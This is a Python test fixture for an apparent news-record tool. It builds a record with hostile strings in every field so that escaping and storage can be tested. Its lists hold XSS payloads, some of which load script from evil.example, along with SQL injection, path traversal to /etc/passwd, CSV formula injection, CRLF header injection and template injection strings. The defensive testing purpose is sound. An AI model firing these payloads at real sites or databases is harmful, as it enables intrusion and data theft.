"""Texts that would do harm if anything took them for more than text, and a record that has them in every field."""

from __future__ import annotations

from collections.abc import Sequence
from itertools import count
from pathlib import Path

import ruling_values
from onrecord.engines.ruling import rule
from onrecord.model import Article, Derivation, Findings, Reason, Speaker, Statement, content_id
from reconciliation_values import article, at, commitment, findings, step, traced

MARKUP = (
    "<script>alert(1)</script>",
    '"><script src=//evil.example/x.js></script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus=alert(1) '",
    "<svg/onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<style>*{display:none}@import url(//evil.example/x.css)</style>",
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<base href="//evil.example/">',
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<form action="//evil.example/"><button>Go</button></form>',
    "<object data=javascript:alert(1)></object><embed src=//evil.example/x>",
    '<a href="javascript:alert(1)">read on</a>',
    "</title></textarea></style></script><script>alert(1)</script>",
    "</main></body></html><h1>Another page</h1>",
    "<!-- --!><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id'); ?><% alert(1) %>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    r"\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
)
TEMPLATES = (
    "{{7*7}}",
    "{% raw %}{{ ''.__class__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(title)s %s {0} {page}",
    "\\u0000 \\x3c",
)
ENTITIES = ("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;b&#62; &amp;amp; &quot; &", "&#x22;&gt;&colon;")
ADDRESSES = (
    "javascript:alert(1)",
    "JaVa\tScRiPt:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    'https://evil.example/"onmouseover=alert(1)//',
    "http://user:word@evil.example/",
    "http://[broken/",
)
PATHS = (
    "..",
    ".",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "/etc/passwd",
    "a/b/../c",
    "a//b/",
    "C:\\Windows\\win.ini",
    "..\\..\\x",
    "a?b=c&d=e#f",
    "100% sure",
    "%2e%2e/%00",
    "a;b=c",
    "con",
    ".hidden",
    "x" * 300,
    "index.html",
)
CONTROLS = (
    "null\x00byte",
    "bell\x07 and escape\x1b[31m red",
    "line\u2028and paragraph\u2029separators",
    "right\u202eto left\u202c",
    "iso\u2066lated\u2069 and \u200fmarked",
    "two\r\nlines\rand\nthree",
    "Set-Cookie\r\nX-Evil: 1\r\n\r\n<script>alert(1)</script>",
    "zero\u200bwidth\ufeffjoined\u2060",
    "\ufffe\uffff non-characters",
    "Zalgo H\u0337\u0316\u0311e\u0334 comes",
)
QUERIES = (
    "'; DROP TABLE articles; --",
    "1' OR '1'='1",
    '" OR rowid > 0 NEAR(a b) *',
    "title:x AND NOT (y OR z^2) -w",
    "% _ \\ LIKE '%'",
)
CELLS = (
    "=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    'a,"b"\nc',
)
HALVES = ("half \ud83d of a pair \udc00",)
"""What no reader lets through, but older records and names of files may hold; never in an id."""
LONG = ("W" * 3_000, "word " * 400, "\u202e" * 50)
CORPUS = (*MARKUP, *TEMPLATES, *ENTITIES, *ADDRESSES, *PATHS, *CONTROLS, *QUERIES, *CELLS, *LONG)
EVERYTHING = (*CORPUS, *HALVES)

AT_ONCE = 2
"""So many texts of the corpus stand in one article."""


def hostile_record(path: Path) -> Path:
    """A record with every text of the corpus in every field of articles, findings, entries and rulings."""
    articles: list[Article] = []
    found: list[Findings] = []
    numbers = count()
    for begin in range(0, len(CORPUS), AT_ONCE):
        pair = [_article(next(numbers), CORPUS[begin : begin + AT_ONCE]) for _ in range(2)]
        articles += pair
        found += [
            _findings(one, CORPUS[begin : begin + AT_ONCE], shown) for one, shown in zip(pair, "37", strict=True)
        ]
    pairs = list(zip(articles[::2], articles[1::2], strict=True))
    sources = tuple(
        Derivation(
            b.id, a.id, CORPUS[number % len(CORPUS)], 0.5, (), (Reason(CORPUS[-number], CORPUS[number], ()),)
        )
        for number, (a, b) in enumerate(pairs, 1)
    )
    ruling_values.write(path, articles, found, traced(*pairs, derivations=sources))
    _rule(path)
    return path


def _article(number: int, texts: Sequence[str]) -> Article:
    """An article whose fields turn through the corpus: over all articles, each field has each text."""

    def one(place: int) -> str:
        return EVERYTHING[(number * 7 + place * 13) % len(EVERYTHING)]

    shown = "37"[number % 2]
    text = "\n".join(
        (f"Report {number}: {shown} of {' '.join(texts)} were promised.", f"“{one(0)}”, said {one(1)}.")
    )
    return article(
        CORPUS[number % len(CORPUS)] + ("" if number < len(CORPUS) else str(number)), text,
        path=one(2), title=one(3), outlet=one(4), byline=one(5), dateline=one(6), url=one(7), wire=one(8) or None,
        language=one(9), published=f"2023-04-{number % 28 + 1:02}", contributors=(one(10), one(11)),
    )  # fmt: skip


def _findings(source: Article, texts: Sequence[str], shown: str) -> Findings:
    number = CORPUS.index(texts[0])

    def one(place: int) -> str:
        return EVERYTHING[(number + place * 11) % len(EVERYTHING)]

    promise = commitment(
        source, " ".join(texts), quantity=float(shown), shown=f"{shown} of", item_class=one(0), actor=one(1),
        actor_name=one(2), recipient=one(3), recipient_name=one(4), unit=one(5), said_by=one(6), members=(one(7),),
    )  # fmt: skip
    said = source.text.partition("“")[2].rpartition("”")[0]
    bid = step(source, one(8), "ratification", "promised", outstanding=(one(9), one(10)), by=one(11))
    return findings(source, promise, _statement(source, said, one), bid)


def _statement(source: Article, said: str, one) -> Statement:
    who = Speaker(one(12), one(13), one(14), "person")
    return Statement(content_id("s", source.id), source.id, "direct", who, (), (), (at(source, said),), said)


def _rule(path: Path) -> None:
    from onrecord.record import open_record

    with open_record(path) as record:
        entries = [one for one in record.entries() if one.type == "commitment"]
        open_ones = [one.id for one in record.disagreements() if one.settled is None]
    for number, (entry, text) in enumerate(zip(entries, MARKUP, strict=False)):
        told = {"by": text, "why": CORPUS[-number - 1]}
        if number % 3 == 0:
            rule(path, "accept", entry.id, **told)
        elif number % 3 == 1:
            rule(path, "correct", entry.id, "item", text, **told)
        elif open_ones:
            rule(path, "settle", open_ones.pop(), "both", **told)
